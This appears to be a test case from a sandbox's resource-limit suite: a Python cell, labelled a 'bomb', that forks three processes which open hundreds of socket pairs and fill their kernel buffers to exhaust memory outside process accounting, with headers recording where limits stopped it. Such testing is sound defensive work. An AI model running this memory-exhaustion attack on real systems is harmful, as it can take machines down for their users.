# intent: thousands of sockets, each filled to the brim, hold gigabytes that count for no process
# family: bombs
# danger: yes
# stock: not run: it would take this machine down
# limits: memory_bytes=500_000_000 cell_seconds=20
# stops: it used more than 476 MB of memory
# before: 1,440 sockets held what they could, and nothing stopped it

# %%
import os
import socket
import time

said, say = os.pipe()
if os.fork() == 0 or os.fork() == 0 or os.fork() == 0:
    kept, sent = [], 0
    while len(kept) < 480:
        one, other = socket.socketpair()
        kept += [one, other]
        for end in (one, other):
            try:
                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4_000_000)
            except OSError:
                pass
            end.setblocking(False)
            try:
                while True:
                    sent += end.send(b"x" * 60_000)
            except BlockingIOError:
                pass
    os.write(say, b"x")
    time.sleep(30)
os.close(say)
done = 0
while os.read(said, 1):
    done += 1
    if done == 3:
        time.sleep(1)
        print("the-attack" + "-worked")
